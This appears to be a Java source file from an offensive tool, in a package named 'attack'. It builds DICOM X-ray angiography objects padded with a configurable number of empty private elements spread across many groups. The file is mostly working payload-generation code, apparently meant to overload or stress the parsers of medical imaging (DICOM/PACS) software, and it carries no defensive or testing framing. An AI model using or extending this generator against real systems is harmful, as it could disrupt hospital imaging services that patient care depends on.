package org.rotavox.attack;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;

/** Data sets in explicit little endian. */
final class Objects {

  private static final int FIRST_GROUP = 0x0021;
  private static final int FIRST_ELEMENT = 0x1000;
  private static final int ELEMENTS_OF_GROUP = 60_000;

  private Objects() {}

  /** Returns an XA object that says who it is, and has so many private elements of no bytes. */
  static byte[] xa(String sopInstance, int elements) {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    out.writeBytes(identity(sopInstance));
    out.writeBytes(emptyElements(elements));
    return out.toByteArray();
  }

  /** Returns what an XA object says of who it is. */
  static byte[] identity(String sopInstance) {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    put(out, 0x0008, 0x0016, "UI", Caller.XA);
    put(out, 0x0008, 0x0018, "UI", sopInstance);
    put(out, 0x0020, 0x000D, "UI", sopInstance + ".1");
    put(out, 0x0020, 0x000E, "UI", sopInstance + ".2");
    return out.toByteArray();
  }

  /** Returns so many private elements of no bytes. */
  static byte[] emptyElements(int elements) {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    for (int i = 0; i < elements; i++) {
      int group = FIRST_GROUP + 2 * (i / ELEMENTS_OF_GROUP);
      put(out, group, FIRST_ELEMENT + i % ELEMENTS_OF_GROUP, "LO", "");
    }
    return out.toByteArray();
  }

  private static void put(
      ByteArrayOutputStream out, int group, int element, String vr, String text) {
    String padded = text.length() % 2 == 0 ? text : text + "\0";
    out.write(group);
    out.write(group >> 8);
    out.write(element);
    out.write(element >> 8);
    out.writeBytes(vr.getBytes(StandardCharsets.US_ASCII));
    out.write(padded.length());
    out.write(padded.length() >> 8);
    out.writeBytes(padded.getBytes(StandardCharsets.US_ASCII));
  }
}
